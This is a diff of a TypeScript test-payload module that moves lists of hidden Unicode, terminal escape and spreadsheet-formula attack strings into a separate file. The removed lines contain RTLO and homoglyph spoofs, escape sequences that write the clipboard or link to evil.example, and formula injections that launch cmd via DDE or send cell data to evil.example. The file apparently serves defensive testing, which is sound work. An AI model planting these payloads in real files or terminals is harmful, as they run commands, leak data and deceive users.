@@ -1,3 +1,5 @@
+import { FORMULA_TEXTS, HIDDEN_TEXTS, TERMINAL_TEXTS } from './hostile-characters'
+
 /** What each payload would call if it ran: a page that was attacked has this on its window. */
 export const CANARY = 'hacked'
 const RUN = `window.${CANARY}=1`
@@ -208,93 +210,6 @@ const encodings = [
   `&amp;lt;script&amp;gt;`,
 ]
 
-const hidden = [
-  'invoice\u202egnp.exe',
-  '\u202ereversed',
-  '\u202dforced',
-  '\u2066isolated\u2069',
-  '\u2067right\u2069',
-  '\u2068first\u2069',
-  'a\u200eb',
-  'a\u200fb',
-  '\u061cletter',
-  'pay\u200bpal',
-  'pay\u200cpal',
-  'pay\u200dpal',
-  'pay\u2060pal',
-  '\ufeffmark',
-  'soft\u00adhyphen',
-  'a\u180eb',
-  '\ufff9note\ufffa\ufffb',
-  'tag\u{e0041}\u{e007f}',
-  'line\u2028separator',
-  'paragraph\u2029separator',
-  'next\u0085line',
-  'form\u000cfeed',
-  'tab\there',
-  'line\nfeed',
-  'carriage\rreturn',
-  'both\r\nends',
-  'back\bspace',
-  'bell\u0007',
-  'delete\u007f',
-  'c1\u009bcsi',
-  'а\u0440\u0440le.com',
-  'раураl',
-  '\u0301combining first',
-  `z${'\u0335\u0336\u0337\u0338'.repeat(8)}algo`,
-  '👩\u200d👩\u200d👧',
-  '🏳️\u200d🌈',
-  '\u{1f1e9}\u{1f1ea}',
-  'שלום',
-  'مرحبا',
-  '中文',
-]
-
-const terminals = [
-  '\u001b[31mred\u001b[0m',
-  '\u001b[2J\u001b[Hcleared',
-  '\u001b]0;title\u0007',
-  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
-  '\u001b[1A\u001b[2Kline above',
-  '\u001bc',
-  '\u001b[?1049h',
-  '\u001bP+q544e\u001b\\',
-  '\u001b[6n',
-  '\u009b31mred',
-  '\u001b[201~pasted',
-  '\u001b]52;c;ZXZpbA==\u0007',
-]
-
-const formulas = [
-  '=1+1',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("https://evil.example?"&A1,"x")',
-  '=IMPORTXML("https://evil.example","//a")',
-  '+1+1',
-  '-1+1',
-  '@SUM(1+1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(1)',
-  "'=1+1",
-  '"=1+1"',
-  '=DDE("cmd";"/C calc";"x")',
-  ';=1+1',
-  ',=1+1',
-  '%0A=1+1',
-  'a,b',
-  'a"b',
-  'a""b',
-  '"',
-  "'",
-  '',
-].filter((text) => text !== '')
-
 /** Texts by which programs were attacked that show, print, open or store what they got. None is empty, no two are the same. */
 export const HOSTILE_PAYLOADS: readonly string[] = [
   ...new Set([
@@ -304,9 +219,9 @@ export const HOSTILE_PAYLOADS: readonly string[] = [
     ...addresses,
     ...templates,
     ...encodings,
-    ...hidden,
-    ...terminals,
-    ...formulas,
+    ...HIDDEN_TEXTS,
+    ...TERMINAL_TEXTS,
+    ...FORMULA_TEXTS,
   ]),
 ]
 
